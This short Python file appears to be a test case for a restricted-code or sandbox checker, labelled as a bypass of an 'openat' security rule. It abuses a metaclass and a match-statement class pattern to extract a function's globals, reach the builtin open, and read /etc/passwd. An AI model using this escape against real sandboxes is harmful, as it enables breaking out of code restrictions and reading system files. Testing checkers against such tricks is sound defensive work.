# Reads attributes by a class pattern.
# checked: invalid_code
# bypassed: security_violation openat
import json
class Any(type):
    def __instancecheck__(self, other):
        return True
class Anything(metaclass=Any):
    __match_args__ = ('__globals__',)
match json.loads:
    case Anything(found):
        found['__builtins__']['open']('/etc/passwd')
